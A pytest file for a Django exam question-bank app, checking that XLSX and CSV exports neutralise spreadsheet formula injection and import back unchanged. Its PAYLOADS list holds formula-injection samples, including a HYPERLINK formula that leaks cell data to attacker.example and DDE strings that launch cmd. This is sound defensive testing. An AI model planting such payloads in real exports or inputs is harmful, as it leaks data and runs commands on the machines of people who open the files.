"""Question-bank and item-analysis exports: text that looks like a formula comes back
from the XLSX (read with openpyxl) as a plain string, never a formula — also with a
leading tab, CR, whitespace or the full-width ＝＋－＠; CSV cells get the ' guard; numbers
are numeric; the header is frozen; our own export imports back unchanged."""
import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from exams import engine, importer
from exams.models import Question, QuestionType
from tests.exams.factories import make_exam, make_question

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"点击查看")'
PAYLOADS = [
    HYPERLINK,
    "\t" + HYPERLINK,
    "\r" + HYPERLINK,
    "\n" + HYPERLINK,
    "  " + HYPERLINK,
    "＝HYPERLINK(\"http://attacker.example\")",
    "＋1＋2",
    "－1",
    "＠SUM(A1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def bank():
    questions = []
    for i, payload in enumerate(PAYLOADS):
        q = make_question(QuestionType.SINGLE, text=payload + f" #{i}", options=[payload, f"安全选项{i}"], correct=[1])
        Question.objects.filter(pk=q.pk).update(explanation=payload)
        questions.append(q)
    return questions


def test_xlsx_export_writes_formula_like_text_as_plain_strings(client, trainer_user, bank):
    client.force_login(trainer_user)
    r = client.get(reverse("exams:bank_export", args=["xlsx"]))
    data = body(r)
    wb = load_workbook(io.BytesIO(data))
    ws = wb.active
    col = {c.value: i for i, c in enumerate(ws[1])}
    texts = {}
    for row in ws.iter_rows(min_row=2):
        for name in ("题干", "选项A", "解析"):
            cell = row[col[name]]
            assert cell.data_type == "s", (name, cell.value)
            assert not str(cell.value).startswith("=") or cell.quotePrefix, (name, cell.value)
        texts[row[col["题干"]].value] = row[col["题干"]]
    for i, payload in enumerate(PAYLOADS):
        # the text is kept as it was (openpyxl's plain XML writer reads a CR back as LF; with lxml it stays a CR) …
        text = payload + f" #{i}"
        cell = texts.get(text) or texts[text.replace("\r", "\n")]
        assert cell.quotePrefix  # … and marked as text, as Excel marks '=… typed by hand
    # no formula anywhere in the file
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode() and "<f " not in z.read(name).decode()
    assert ws.freeze_panes == "A2" and ws[1][0].font.b
    assert ws.column_dimensions["D"].width > 8  # 题干 column sized to its content


def test_csv_export_guards_formula_like_text(client, trainer_user, bank):
    client.force_login(trainer_user)
    text = body(client.get(reverse("exams:bank_export", args=["csv"]))).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    col = {h: i for i, h in enumerate(rows[0])}
    stems = [r[col["题干"]] for r in rows[1:]]
    for i, payload in enumerate(PAYLOADS):
        assert "'" + payload + f" #{i}" in stems
    for r in rows[1:]:
        for cell in r:
            assert not re.match(r"[\s\u3000]*[=+\-@＝＋－＠]", cell), cell


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_our_own_export_imports_back_unchanged(client, trainer_user, bank, fmt):
    client.force_login(trainer_user)
    data = body(client.get(reverse("exams:bank_export", args=[fmt])))
    before = {q.text: (q.explanation, [o.text for o in q.options.all()]) for q in Question.objects.all()}
    Question.objects.all().delete()
    report = importer.run_import(data, f"bank.{fmt}")
    assert report.created == len(PAYLOADS) and not report.errors
    after = {q.text: (q.explanation, [o.text for o in q.options.all()]) for q in Question.objects.all()}
    # the importer trims cells, so compare without leading/trailing whitespace
    strip = {k.strip(): (e.strip(), [o.strip() for o in opts]) for k, (e, opts) in before.items()}
    assert after == strip


def test_item_analysis_export_is_safe_and_numeric(client, trainer_user, officer_user):
    q = make_question(QuestionType.SINGLE, text=HYPERLINK)
    exam = make_exam([q])
    exam.managers.add(trainer_user)
    sitting = engine.start(exam, officer_user.officer)
    engine.finalize(sitting)
    client.force_login(trainer_user)
    data = body(client.get(reverse("exams:analysis_export", args=[exam.pk, "xlsx"])))
    wb = load_workbook(io.BytesIO(data))
    ws = wb["试题分析"]
    header = [c.value for c in ws[1]]
    row = ws[2]
    stem = row[header.index("题干")]
    assert stem.value == HYPERLINK and stem.data_type == "s" and stem.quotePrefix
    assert row[header.index("作答人数")].data_type == "n" and row[header.index("作答人数")].value == 1
    assert row[header.index("难度系数(P)")].data_type == "n"
    assert all(w.freeze_panes == "A2" for w in wb.worksheets)
    csv_text = body(client.get(reverse("exams:analysis_export", args=[exam.pk, "csv"]))).decode("utf-8-sig")
    assert "'=HYPERLINK(" in csv_text and ",=HYPERLINK(" not in csv_text.replace('"', "")


def test_template_downloads(client, trainer_user):
    client.force_login(trainer_user)
    wb = load_workbook(io.BytesIO(client.get(reverse("exams:bank_template", args=["xlsx"])).content))
    assert wb.sheetnames == ["题库模板", "填写说明"]
    assert all(ws.freeze_panes == "A2" for ws in wb.worksheets)
    text = body(client.get(reverse("exams:bank_template", args=["csv"]))).decode("utf-8-sig")
    assert text.startswith("题型,类别,难度,题干")
